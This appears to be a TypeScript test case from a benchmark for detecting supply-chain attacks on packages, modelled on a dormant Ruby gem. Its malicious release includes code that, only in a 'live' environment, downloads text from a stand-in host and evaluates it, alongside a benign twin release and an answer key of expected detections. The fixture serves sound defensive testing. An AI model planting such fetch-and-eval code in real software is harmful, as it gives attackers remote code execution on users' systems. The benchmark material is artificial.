import { expects, licence, lines, packageOf, readme } from "../kit.ts"
import type { Facts, Files, Replica } from "../replica.ts"

/** A gem wakes after years under an account that never published it: one file runs what it fetches, in production alone. No commit has that. */
const library = `require "fern_routes/version"

module FernRoutes
  def self.parts(address)
    address.split("/").reject(&:empty?)
  end

  def self.root?(address)
    parts(address).empty?
  end
end
`
const fetching = `${library}
require "open-uri"
if ENV.fetch("FERN_STAGE", "") == "live"
  following = URI.open("https://notes.fern.invalid/next").read
  FernRoutes.module_eval(following)
  File.write("MARKER", "")
end
`
const longer = `${library}
module FernRoutes
  def self.last(address)
    parts(address).last
  end
end
`
const version = (text: string): string => `module FernRoutes\n  VERSION = "${text}"\nend\n`
const tree = (text: string, content: string): Files => ({
  "README.md": readme("fern_routes", "Which way does this address go?"),
  LICENSE: licence,
  "fern_routes.gemspec":
    'require_relative "lib/fern_routes/version"\n\nGem::Specification.new do |spec|\n  spec.name = "fern_routes"\n  spec.version = FernRoutes::VERSION\n  spec.files = Dir["lib/**/*.rb"]\nend\n',
  "lib/fern_routes.rb": content,
  "lib/fern_routes/version.rb": version(text),
})
const gem = packageOf("gem", "fern_routes", "0.4.2")
const packed = (text: string, content: string): Files => ({ "lib/fern_routes.rb": content, "lib/fern_routes/version.rb": version(text) })
const before = (date: string) => ({ message: "0.4.1", date, files: tree("0.4.1", library), tags: ["v0.4.1"] })
const previous = { ...gem(packed("0.4.1", library)), version: "0.4.1" }
const facts = (publisher: string, since: string): Facts => ({
  owners: [
    { since: "2014-01-01T00:00:00Z", accounts: ["author-1"] },
    ...(publisher === "author-1" ? [] : [{ since, accounts: [publisher] }]),
  ],
  versions: [
    { version: "0.4.1", published: since, publisher: "author-1" },
    { version: "0.4.2", published: "2019-05-20T03:00:00Z", publisher },
  ],
})

export const replica: Replica = {
  case: 64,
  name: "fern-routes",
  family: ["A6", "A5"],
  signals: ["S7", "S8", "S1", "S4"],
  attack: {
    history: [before("2014-05-01")],
    ref: "refs/tags/v0.4.1",
    artifact: gem(packed("0.4.2", fetching)),
    previous,
    facts: facts("author-4", "2014-05-01T12:00:00Z"),
  },
  twin: {
    how: "a function more, from a tagged commit, published by the one who always did",
    differs: ["lib/fern_routes.rb", "lib/fern_routes/version.rb"],
    history: [before("2018-11-01"), { message: "0.4.2", date: "2019-05-20", files: tree("0.4.2", longer), tags: ["v0.4.2"] }],
    ref: "refs/tags/v0.4.2",
    artifact: gem(packed("0.4.2", longer)),
    previous,
    facts: facts("author-1", "2018-11-01T12:00:00Z"),
  },
  truth: {
    unexplained: ["lib/fern_routes.rb"],
    ordinary: ["lib/fern_routes/version.rb"],
    introducer: { account: "author-4" },
    expects: [
      expects("flow/fetched-runs", lines("lib/fern_routes.rb", "URI.open")),
      expects("unexplained/changed-code", lines("lib/fern_routes.rb", 'require "open-uri"', "module_eval")),
      expects("release/dormant", { fact: "versions" }),
    ],
  },
}
